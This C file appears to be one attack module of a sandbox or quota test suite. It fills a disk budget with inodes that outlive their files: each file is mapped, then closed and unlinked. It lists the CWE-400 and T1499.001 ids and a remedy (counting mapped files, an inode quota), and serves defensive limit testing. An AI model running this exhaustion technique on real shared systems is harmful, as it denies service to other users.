// SPDX-License-Identifier: MIT
/*
 * mapped-inodes.c - files that exist as a mapping only.
 *
 * Goal:  more files on disk than the budget.
 * Means: a file of one page is mapped, closed and unlinked. It has no name and no descriptor, and takes its inode
 *        as long as it is mapped: one process may have 65000 mappings.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#define FILES 1900

static enum claim run(const struct brief *b)
{
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd = open("mapped", O_RDWR | O_CREAT | O_EXCL, 0600);

		if (fd < 0)
			return denied("open");
		if (mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED)
			return denied("mmap");
		close(fd);
		unlink("mapped");
	}
	return hold();
}

const struct attack attack = {
	.effect = "more files on disk than the budget",
	.means = "files without a name and without a descriptor, each in a mapping of its own",
	.oracle = "usage:inodes",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "count what is mapped, too; an inode quota",
	.refs = (const char *const[]){ "mmap(2)", "unlink(2)", NULL },
	.run = run,
};
